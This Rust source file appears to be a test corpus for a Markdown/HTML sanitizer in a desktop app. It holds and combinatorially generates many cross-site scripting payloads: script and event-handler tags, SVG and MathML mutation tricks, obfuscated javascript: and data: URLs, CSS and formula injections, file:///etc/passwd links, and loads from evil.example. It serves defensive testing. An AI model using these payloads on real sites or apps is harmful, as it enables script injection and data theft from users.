//! Texts that try to run something, to fetch something, or to look like a part of the app.

/// Carriers of script that have worked somewhere, as Markdown.
pub(crate) const KNOWN: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "text <script>alert(1)</script> text",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\"/>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
    "<img src=`x` onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style=\"background:url(https://evil.example/x)\">x</p>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1) autofocus onfocus=alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"https://ok.example\" onclick=alert(1)>x</a>",
    "<a href='https://ok.example' target=_blank ping=https://evil.example>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><script>alert(1)</script></xmp>",
    "<textarea><script>alert(1)</script>",
    "<title><script>alert(1)</script></title>",
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://ok.example/1)",
    "[x](tauri://localhost/)",
    "[x](ipc://localhost/cmd)",
    "[x](//evil.example/x)",
    "[x](https://ok.example/\"onmouseover=\"alert(1))",
    "[x](https://ok.example 'a\" onmouseover=\"alert(1)')",
    "[x](https://ok.example \"</a><script>alert(1)</script>\")",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: https://ok.example \"\\\" onclick=\\\"alert(1)\"\n\n[x]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<https://ok.example/\"onclick=alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](https://evil.example/pixel.png)",
    "![\"><script>alert(1)</script>](https://evil.example/p.png)",
    "[![x](https://evil.example/p.png)](javascript:alert(1))",
    "```\"><script>alert(1)</script>\nx\n```",
    "```rust onclick=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "`<img src=x onerror=alert(1)>`",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|---|\n| <img src=x onerror=alert(1)> | b |",
    "- [ ] <input onfocus=alert(1) autofocus>",
    "[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: x",
    "# <script>alert(1)</script> {#x onclick=alert(1)}",
    "<div>\n*a* <script>\n\nalert(1)\n</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u{0}<scr\u{0}ipt>alert(1)</script>",
    "<button class=\"cite\" type=\"button\" data-cite=\"1\">1</button>",
    "\u{e000}\u{f0000}\u{100000}1\u{e000}",
];

/// Schemes that a browser or this app's window would do something with.
const SCHEMES: &[&str] = &[
    "javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "tauri://localhost/",
    "ipc://localhost/call",
    "asset://localhost/etc/passwd",
    "blob:https://ok.example/1",
    "filesystem:https://ok.example/temporary/x",
    "view-source:https://ok.example",
    "about:blank",
    "chrome://settings",
    "resource://x",
    "ms-msdt:/id",
    "intent://x#Intent;end",
    "ws://evil.example/",
    "jar:https://evil.example!/x",
    "livescript:x",
];

/// Ways to write an address so that a filter does not see its scheme.
const DISGUISES: &[fn(&str) -> String] = &[
    |url| url.to_owned(),
    |url| url.to_uppercase(),
    |url| url.chars().enumerate().map(|(i, c)| if i % 2 == 0 { c.to_ascii_uppercase() } else { c }).collect(),
    |url| format!(" {url}"),
    |url| format!("\u{1}{url}"),
    |url| format!("\u{200B}{url}"),
    |url| format!("\\{url}"),
    |url| url.replacen(':', "&colon;", 1),
    |url| url.replacen(':', "&#58;", 1),
    |url| url.replacen(':', "%3A", 1),
    |url| url.replacen(':', "\u{FF1A}", 1),
    |url| format!("{}&Tab;{}", &url[..2], &url[2..]),
    |url| format!("{}&NewLine;{}", &url[..2], &url[2..]),
    |url| format!("{}&#x09;{}", &url[..2], &url[2..]),
    |url| format!("{}\t{}", &url[..2], &url[2..]),
    |url| format!("{}\0{}", &url[..2], &url[2..]),
    |url| format!("&#{};{}", u32::from(url.as_bytes()[0]), &url[1..]),
    |url| format!("&#x{:x};{}", url.as_bytes()[0], &url[1..]),
    |url| format!("&#{:07};{}", url.as_bytes()[0], &url[1..]),
];

/// Places of Markdown, MathML and SVG in which an address may stand.
const ADDRESS_CARRIERS: &[&str] = &[
    "[x]({})",
    "[x](<{}>)",
    "[x]({} \"title\")",
    "![x]({})",
    "[![x](https://ok.example/i.png)]({})",
    "<{}>",
    "{}",
    "[x]\n\n[x]: {}",
    "[x][]\n\n[x]: <{}> 'title'",
    "| a |\n|---|\n| [x]({}) |",
    "- [ ] [x]({})",
    "[^1]\n\n[^1]: [x]({})",
    "<a href=\"{}\">x</a>",
    "<a href='{}'>x</a>",
    "<iframe src=\"{}\"></iframe>",
    "<form action=\"{}\"><button>x</button></form>",
    "<svg><a xlink:href=\"{}\"><text>x</text></a></svg>",
    "<svg><use href=\"{}\"/></svg>",
    "<svg><image href=\"{}\"/></svg>",
    "<math><mi href=\"{}\">x</mi></math>",
    "<math><maction actiontype=\"statusline#{}\">x</maction></math>",
    "$\\href{{}}{x}$",
    "$\\url{{}}$",
    "$$\n\\includegraphics{{}}\n$$",
];

const HANDLERS: &[&str] = &[
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onbegin",
    "onanimationstart",
    "onpointerenter",
    "onwheel",
    "oncut",
    "onstart",
    "onfinish",
    "onbeforetoggle",
    "onscrollsnapchange",
    "formaction",
];

const ELEMENTS: &[&str] = &[
    "a",
    "b",
    "br",
    "sub",
    "kbd",
    "mark",
    "p",
    "div",
    "img",
    "input",
    "button",
    "body",
    "details",
    "video",
    "audio",
    "svg",
    "math",
    "mi",
    "iframe",
    "object",
    "embed",
    "style",
    "marquee",
    "table",
    "select",
    "template",
    "script",
    "x-y",
    "animate",
    "foreignObject",
    "annotation-xml",
    "mglyph",
];

const ELEMENT_CARRIERS: &[&str] =
    &["<{e} {h}=alert(1)>x</{e}>", "<{e} {h}=\"alert(1)\"/>", "a <{e}/{h}=alert(1) autofocus tabindex=1>"];

const STYLES: &[&str] = &[
    "background:url(https://evil.example/x)",
    "background:u\\72l(https://evil.example/x)",
    "width:expression(alert(1))",
    "width:e\\78pression(alert(1))",
    "behavior:url(#x)",
    "-moz-binding:url(//evil.example/x.xml#x)",
    "position:fixed;inset:0;z-index:9",
    "@import 'https://evil.example/x.css'",
    "list-style:url(&quot;https://evil.example/x&quot;)",
    "content:'\\3c script\\3e'",
];

const STYLE_CARRIERS: &[&str] = &[
    "<p style=\"{}\">x</p>",
    "<b style='{}'>x</b>",
    "<br style=\"{}\">",
    "<style>*{{}}</style>",
    "<svg><style>*{{}}</style></svg>",
    "<math><mtext style=\"{}\">x</mtext></math>",
    "$\\style{{}}{x}$",
    "$\\text{<b style=\"{}\">x</b>}$",
    "$\\color{{}}x$",
    "```{}\nx\n```",
];

/// What the library for formulas, or a browser's MathML, might carry.
const MATHS: &[&str] = &[
    "\\text{<script>alert(1)</script>}",
    "\\text{<img src=x onerror=alert(1)>}",
    "\\text{</mtext></math><script>alert(1)</script>}",
    "\\mathrm{<svg onload=alert(1)>}",
    "\\operatorname{<img src=x onerror=alert(1)>}",
    "\\htmlClass{x}{y}",
    "\\htmlData{onclick=alert(1)}{x}",
    "\\class{onclick}{x}",
    "\\unicode{x3c}script>",
    "\\textcolor{\"onclick=alert(1)}{x}",
    "\\color{rgb(0,0,0)\" onclick=\"alert(1)}x",
    "\\hspace{1em\" onclick=\"alert(1)}",
    "\\\\[1em\" onclick=\"alert(1)]",
    "\\def\\a{\\a\\a}\\a",
    "\\newcommand{\\a}{<script>}\\a",
    "</math><img src=x onerror=alert(1)>",
    "<mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "x\" onmouseover=\"alert(1)",
    "\\begin{array}{c\" onclick=\"x}a\\end{array}",
    "\\genfrac{(}{)}{1px\" onclick=\"alert(1)}{0}{a}{b}",
];

const MATH_CARRIERS: &[&str] =
    &["${}$", "$${}$$", "\\({}\\)", "\\[{}\\]", "\\[\n{}\n\\]", "> $$\n> {}\n> $$"];

/// All of them, each once.
pub(crate) fn all() -> Vec<String> {
    let mut all: Vec<String> = KNOWN.iter().map(|known| (*known).to_owned()).collect();
    for scheme in SCHEMES {
        for disguise in DISGUISES {
            let url = disguise(scheme);
            all.extend(ADDRESS_CARRIERS.iter().map(|carrier| carrier.replace("{}", &url)));
        }
    }
    for element in ELEMENTS {
        for handler in HANDLERS {
            all.extend(ELEMENT_CARRIERS.iter().map(|it| it.replace("{e}", element).replace("{h}", handler)));
        }
    }
    for (payloads, carriers) in [(STYLES, STYLE_CARRIERS), (MATHS, MATH_CARRIERS)] {
        for payload in payloads {
            all.extend(carriers.iter().map(|carrier| carrier.replace("{}", payload)));
        }
    }
    all.sort();
    all.dedup();
    all
}
